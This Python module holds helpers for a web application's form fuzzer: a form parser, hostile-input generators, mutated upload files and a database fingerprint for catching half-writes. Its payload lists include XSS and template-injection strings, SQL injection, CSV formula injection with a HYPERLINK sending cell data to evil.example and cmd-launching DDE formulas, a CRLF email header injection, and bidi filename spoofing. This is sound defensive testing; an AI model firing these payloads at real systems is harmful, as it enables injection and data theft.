"""Pieces of the form fuzzer (tests/test_fuzz_forms.py): what a form on a page asks for, the
hostile values to answer with, and a fingerprint of the whole database to catch half-writes.
"""

from __future__ import annotations

import contextlib
import json
import re
from collections import Counter
from dataclasses import dataclass, field
from datetime import date, timedelta
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

from hypothesis import strategies as st
from sqlalchemy import event, select

from clerkship import clock

# --- forms on a page -------------------------------------------------------------------------


@dataclass
class Field:
    name: str
    kind: str  # text | textarea | password | email | slug | date | number | hidden | file | choice
    options: list[str] = field(default_factory=list)  # choice: the values offered
    value: str = ""  # what the page filled in (hidden fields: version numbers, tokens)
    multiple: bool = False  # checkbox groups and <select multiple>


@dataclass
class Form:
    action: str  # path only
    multipart: bool
    fields: dict[str, Field] = field(default_factory=dict)

    def add(self, name: str, kind: str, value: str = "", *, option: bool = False) -> None:
        known = self.fields.get(name)
        if known is None:
            known = self.fields[name] = Field(name, "choice" if option else kind)
        elif option and known.kind == "choice":
            known.multiple = known.multiple or kind == "checkbox"
        if option:
            known.multiple = known.multiple or kind == "checkbox"
            if value not in known.options:
                known.options.append(value)
        else:
            known.value = value


class _FormParser(HTMLParser):
    """Every <form method=post> with its inputs, selects (and their options) and textareas."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.page = page
        self.forms: list[Form] = []
        self.form: Form | None = None
        self.select: Field | None = None
        self.text: list[str] | None = None  # an <option>'s text, when it has no value

    def handle_starttag(self, tag, attrs):
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            if a.get("method", "get").lower() == "post":
                action = urlsplit(urljoin(self.page, a.get("action") or self.page)).path
                self.form = Form(action, "multipart" in a.get("enctype", ""))
                self.forms.append(self.form)
            return
        if self.form is None:
            return
        if tag == "option" and self.select is not None:
            if "value" in a:
                self.select.options.append(a["value"])
            else:  # the value is the option's text
                self.text = []
            return
        if not a.get("name") or a["name"] == "csrf_token":
            return
        name = a["name"]
        if tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("checkbox", "radio"):
                self.form.add(name, kind, a.get("value", "on"), option=True)
            elif kind in ("submit", "button", "reset", "image"):
                self.form.add(name, kind, a.get("value", ""), option=True)
            else:
                kind = kind if kind in KINDS else "text"
                if kind == "text":  # what the name says, when the type does not
                    kind = next((k for k in ("email", "slug") if k in name), kind)
                self.form.add(name, kind, a.get("value", ""))
        elif tag == "button":
            self.form.add(name, "button", a.get("value", ""), option=True)
        elif tag == "textarea":
            self.form.add(name, "textarea")
        elif tag == "select":
            self.form.add(name, "select")
            self.select = self.form.fields[name]
            self.select.kind = "choice"
            self.select.multiple = "multiple" in a

    def handle_data(self, data):
        if self.text is not None:
            self.text.append(data)

    def handle_endtag(self, tag):
        if tag == "option" and self.text is not None:
            self.select.options.append("".join(self.text).strip())
            self.text = None
        elif tag == "form":
            self.form = None
        elif tag == "select":
            self.select = None


KINDS = {"text", "email", "password", "date", "number", "hidden", "file", "search", "tel", "url"}


def forms_on(page: str, html: str) -> list[Form]:
    parser = _FormParser(page)
    parser.feed(html)
    return parser.forms


# --- hostile values --------------------------------------------------------------------------

MARK = "zq"  # payload marker: appears nowhere in the app's own pages
# A payload echoed back unescaped: a live tag or an attribute broken out of its quotes.
REFLECTED = re.compile(
    r"<script>zq\d"
    r"|<img src=x onerror=zq\d"
    r"|<svg onload=zq\d"
    r"|<a href=javascript:zq\d"
    r"|[\"']\s*autofocus onfocus=zq\d"
    r"|(?<![A-Za-z0-9])49zq\d"  # {{7*7}} evaluated by a template
    r"|<b>x</b>"  # the tag in the long values
)

WHITESPACE = st.sampled_from(
    [" ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u2003", "\u200b", "\ufeff", " \n\t "]
)
UNICODE = st.sampled_from(
    [
        "مرحبا بالعالم",  # RTL
        "שלום",
        "\u202eevil\u202c",  # right-to-left override
        "👩🏽‍⚕️🩺",  # ZWJ sequence with a skin tone
        "e\u0301\u0301\u0301",  # stacked combining accents
        "Z̸̢͇̈́a̷̡̛l̶g̵o̴",
        "𝕏𝔶𝔷 \U0001f600",  # astral plane
        "日本語のテキスト",
        "ﬁ ß İ ı",  # case-mapping oddities
        "\ufffd\ufffe",
        "Ｆｕｌｌｗｉｄｔｈ",
    ]
)
CONTROL = st.one_of(
    st.sampled_from(
        [
            "\x00",
            "a\x00b",
            "\x00" * 3,
            "\x01\x02\x03",
            "\x1b[31mred",
            "\x7f",
            "\x85",
            "\u2028\u2029",
        ]
    ),
    st.text(st.characters(max_codepoint=0x1F), min_size=1, max_size=8),
)
NUMBERS = st.sampled_from(
    [
        "-1",
        "0",
        "007",
        " 3 ",
        "3.0",
        "1e3",
        "1_000",
        "2147483647",
        "2147483648",
        "-2147483649",
        "9223372036854775807",
        "9223372036854775808",
        "1" + "0" * 40,
        "١٢",  # Arabic-Indic digits: int() accepts them
        "½",
        "NaN",
        "Infinity",
        "0x1F",
    ]
)
WRONG_TYPES = st.one_of(
    NUMBERS,
    st.integers(-3, 500).map(str),  # ids of records, others' included
    st.sampled_from(["yes", "no", "on", "off", "true", "null", "None", "[]", "{}", "na", "-"]),
)
# Spreadsheet formulas (OWASP's CSV injection starts): names like these reach CSV exports.
FORMULA = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "=cmd|'/C notepad'!'A1'",
    ]
)
# Direction overrides and isolates: "gnp.exe" that would read "exe.png".
BIDI = st.sampled_from(
    [
        "\u202egnp.exe",
        "photo\u202eexe.png",
        "\u202a\u202b\u202c\u202d\u202e",
        "\u2066x\u2067y\u2068z\u2069",
        "a\u200fb\u200ec",  # marks: allowed to stay
        "\u202e" * 50,
    ]
)
# Controls that must never reach a page (forminput.clean_text and the Jinja finalize).
BIDI_OVERRIDE = re.compile("[\u202a-\u202e\u2066-\u2069]")
# Unbroken words longer than any line, page or cell.
LONG_WORD = st.sampled_from(["W" * 4000, "https://example.org/" + "a" * 5000, "x" * 10_001])
SQL = st.sampled_from(["' OR 1=1 --", "Robert'); DROP TABLE user;--", "%", "_", "\\", "%%"])


def _payload(n: int) -> st.SearchStrategy[str]:
    return st.sampled_from(
        [
            f"<script>zq{n}</script>",
            f'"><img src=x onerror=zq{n}>',
            f"'><svg onload=zq{n}>",
            f'" autofocus onfocus=zq{n} x="',
            f"' autofocus onfocus=zq{n} x='",
            f"</textarea><script>zq{n}</script>",
            f"</title><script>zq{n}</script>",
            f"<a href=javascript:zq{n}>x</a>",
            f"{{{{7*7}}}}zq{n}",
            f"%(name)s %s %d zq{n}",
        ]
    )


HTML = st.integers(1, 999).flatmap(_payload)

# Lengths at and around every limit in the forms and the database columns.
LENGTHS = [
    30, 31, 50, 51, 80, 81, 99, 100, 101, 199, 200, 201, 254, 255, 256, 299, 300, 301,
    1024, 1025, 2000, 2001, 4000, 4001, 6000, 6001, 10_000, 10_001, 65_536, 100_000,
]  # fmt: skip
LONG = st.builds(
    lambda unit, n: (unit * n)[:n],
    st.sampled_from(["a", "é", "👩🏽‍⚕️", "مرحبا ", " ", "\x00", "<b>x</b>", "1", "["]),
    st.sampled_from(LENGTHS),
)
PLAIN = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)

HOSTILE = st.one_of(
    st.just(""),
    WHITESPACE,
    LONG,
    UNICODE,
    CONTROL,
    WRONG_TYPES,
    SQL,
    HTML,
    PLAIN,
    FORMULA,
    BIDI,
    LONG_WORD,
)
# Two hostile pieces side by side ("<script>… + NUL", "valid date + RTL override", …).
MIXED = st.tuples(HOSTILE, HOSTILE).map("".join)


def dates() -> st.SearchStrategy[str]:
    today = clock.today()
    return st.one_of(
        st.integers(-400, 400).map(lambda d: (today + timedelta(days=d)).isoformat()),
        st.dates().map(date.isoformat),  # 0001-01-01 … 9999-12-31
        st.sampled_from(
            [
                "2026-02-29",
                "2028-02-29",
                "2026-13-01",
                "2026-00-10",
                "2026-1-1",
                "20260101",
                "2026-W01-1",
                "01/02/2026",
                "0000-00-00",
                "10000-01-01",
                "٢٠٢٦-٠١-٠١",
                "2026-01-01T10:00:00",
                "2026-01-01 ",
            ]
        ),
    )


def emails(known: list[str]) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(known),  # someone's real address: clashes, wrong roles
        st.sampled_from(known).map(str.upper),
        st.emails().map(str),
        st.sampled_from(
            [
                "a@b",
                "@example.org",
                "x@@example.org",
                "x@example.org\r\nBcc: y@example.org",
                "x@exa mple.org",
                "ünïcødé@exämple.org",
                "a" * 250 + "@example.org",
            ]
        ),
    )


WORDS = st.lists(
    st.sampled_from(["Lead", "a", "family", "meeting", "with", "Mrs.", "A.", "today", "plan"]),
    min_size=1,
    max_size=8,
).map(" ".join)
# Text a person could type that a form should accept — markup and scripts included.
TEXT = st.one_of(WORDS, WORDS, UNICODE, HTML, st.tuples(WORDS, HTML).map(" ".join), FORMULA, BIDI)


def plausible(fld: Field, *, password: str, known_emails: list[str]) -> st.SearchStrategy:
    """What a person using the page could send in this field."""
    if fld.kind == "choice":
        one = st.sampled_from(fld.options) if fld.options else st.just("")
        return st.lists(one, max_size=3, unique=True) if fld.multiple else one
    if fld.kind == "date":
        today = clock.today()
        return st.integers(-300, 60).map(lambda d: (today + timedelta(days=d)).isoformat())
    if fld.kind == "password":
        return st.just(password)  # right for the signed-in person, long enough as a new one
    if fld.kind == "email":
        fresh = st.integers(1, 10**6).map(lambda n: f"new{n}@example.org")
        return st.one_of(st.sampled_from(known_emails), fresh, st.emails().map(str))
    if fld.kind == "slug":
        return st.from_regex(r"[a-z0-9][a-z0-9-]{1,30}", fullmatch=True)
    if fld.kind in ("hidden", "number"):
        return st.just(fld.value)
    return TEXT


def hostile(fld: Field, *, known_emails: list[str]) -> st.SearchStrategy:
    """What only a fuzzer (or an attacker) sends, with a few wrong-but-typed values."""
    extra = {"date": dates(), "email": emails(known_emails)}.get(fld.kind, st.nothing())
    one = st.one_of(HOSTILE, MIXED, extra)
    return st.lists(one, max_size=4) if fld.multiple else one


# --- files -----------------------------------------------------------------------------------

FILENAMES = st.one_of(
    st.sampled_from(["roster.csv", "instrument.json", "a.pdf", "noext", ".csv", "x.CSV"]),
    HOSTILE.map(lambda s: (s or "f") + ".csv"),
)


def csv_file(headers: list[str]) -> st.SearchStrategy[bytes]:
    """A CSV with the right columns (mostly) and hostile cells, in one of the usual codecs."""
    # The right columns, some wrong ones, or far too many (a wide file: 999 to 20,000 columns).
    wide = st.sampled_from([999, 1000, 1001, 20_000]).map(
        lambda n: [*headers, *(f"c{i}" for i in range(n - len(headers)))]
    )
    header = st.one_of(st.just(headers), st.lists(st.sampled_from([*headers, "x", ""])), wide)
    cell = st.one_of(HOSTILE, st.emails().map(str), dates())

    def build(head, rows, sep, codec):
        lines = [sep.join(head)]
        for row in rows:
            lines.append(sep.join('"' + c.replace('"', '""') + '"' for c in row))
        text = "\r\n".join(lines)
        return (
            text.encode(codec, errors="replace")
            if codec != "utf-8-sig"
            else (b"\xef\xbb\xbf" + text.encode("utf-8", errors="replace"))
        )

    return st.builds(
        build,
        header,
        st.lists(st.lists(cell, min_size=len(headers), max_size=len(headers)), max_size=3),
        st.sampled_from([",", ";", "\t"]),
        st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]),
    )


def _mutate_json(document, strings: list[str], numbers: list[int]):
    """The shipped document with some of its strings and numbers replaced."""
    strings, numbers = iter(strings), iter(numbers)

    def walk(node):
        if isinstance(node, dict):
            return {k: walk(v) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v) for v in node]
        if isinstance(node, str):
            return next(strings, node)
        if isinstance(node, int) and not isinstance(node, bool):
            return next(numbers, node)
        return node

    return walk(document)


def json_file(shipped: dict) -> st.SearchStrategy[bytes]:
    """A mutated copy of a real instrument file: valid enough to reach the database."""
    replacement = st.one_of(st.none(), HOSTILE)  # None keeps the original string
    mutated = st.builds(
        lambda s, n: _mutate_json(shipped, list(s), n),
        st.lists(replacement, max_size=12),
        st.lists(st.sampled_from([-1, 0, 6, 2**31, 2**63]), max_size=2),
    ).map(lambda doc: _drop_nones(doc, shipped))
    return st.one_of(
        mutated.map(lambda d: json.dumps(d, ensure_ascii=False).encode("utf-8", "replace")),
        st.binary(max_size=200),
        HOSTILE.map(lambda s: s.encode("utf-8", "replace")),
    )


def _drop_nones(doc, original):
    """Where the strategy drew None, the original value stays."""
    if isinstance(doc, dict):
        return {k: _drop_nones(v, original.get(k)) for k, v in doc.items()}
    if isinstance(doc, list):
        return [_drop_nones(v, o) for v, o in zip(doc, original, strict=False)]
    return original if doc is None else doc


# --- the database, fingerprinted --------------------------------------------------------------

# Columns a request may change without doing anything (a "last seen" clock).
VOLATILE = {"sign_in_session": {"last_seen_at"}}
AUDIT_TABLE = "audit_event"


@dataclass
class Snapshot:
    rows: dict[str, Counter]
    audit: list[tuple[int, str]]


def snapshot(connection, metadata) -> Snapshot:
    """Every row of every table (as text), and the audit log's (id, action) pairs."""
    rows = {}
    for table in metadata.sorted_tables:
        if table.name == AUDIT_TABLE:
            continue
        columns = [c for c in table.c if c.name not in VOLATILE.get(table.name, ())]
        rows[table.name] = Counter(repr(tuple(r)) for r in connection.execute(select(*columns)))
    audit = metadata.tables[AUDIT_TABLE]
    pairs = connection.execute(select(audit.c.id, audit.c.action).order_by(audit.c.id)).all()
    return Snapshot(rows, [tuple(p) for p in pairs])


def changes(before: Snapshot, after: Snapshot, allowed_audit: frozenset[str]) -> list[str]:
    """What changed, except audit events of the allowed kinds; [] means nothing did."""
    found = []
    for name, rows in before.rows.items():
        added, removed = after.rows[name] - rows, rows - after.rows[name]
        if added or removed:
            found.append(
                f"{name}: +{len(added)} -{len(removed)} e.g. {next(iter(added or removed))[:300]}"
            )
    if after.audit[: len(before.audit)] != before.audit:
        found.append("audit_event: existing events changed")
    for _id, action in after.audit[len(before.audit) :]:
        if action not in allowed_audit:
            found.append(f"audit_event: {action}")
    return found


class Writes:
    """Notices INSERT/UPDATE/DELETE statements on the test's connection, so the database is
    fingerprinted again only after a request that tried to write (most refusals do not)."""

    def __init__(self, connection):
        self.connection = connection
        self.seen = False
        event.listen(connection, "before_cursor_execute", self._statement)

    def _statement(self, conn, cursor, statement, *args):
        if statement.lstrip()[:6].upper() in ("INSERT", "UPDATE", "DELETE"):
            self.seen = True

    def close(self) -> None:
        event.remove(self.connection, "before_cursor_execute", self._statement)


@contextlib.contextmanager
def rolled_back(connection):
    """Run one example inside a SAVEPOINT and undo everything it wrote afterwards."""
    savepoint = connection.begin_nested()
    try:
        yield
    finally:
        if savepoint.is_active:
            savepoint.rollback()


# --- WTForms classes, for forms that no page shows to every role -----------------------------


def fields_of(form_class) -> dict[str, Field]:
    """The fields of a WTForms form class, as a page would render them (needs a request)."""
    kinds = {
        "StringField": "text",
        "TextAreaField": "textarea",
        "PasswordField": "password",
        "EmailField": "email",
        "DateField": "date",
        "IntegerField": "number",
        "HiddenField": "hidden",
        "FileField": "file",
    }
    found = {}
    for f in form_class(formdata=None, meta={"csrf": False}):
        kind = kinds.get(type(f).__name__, "text")
        if hasattr(f, "choices"):
            options = [str(getattr(c, "value", None) or c[0]) for c in (f.choices or [])]
            found[f.name] = Field(
                f.name,
                "choice",
                options,
                multiple=f.type.startswith(("SelectMultiple", "MultiCheckbox")),
            )
        elif f.type == "BooleanField":
            found[f.name] = Field(f.name, "choice", ["y"])
        else:
            found[f.name] = Field(f.name, kind)
    return found
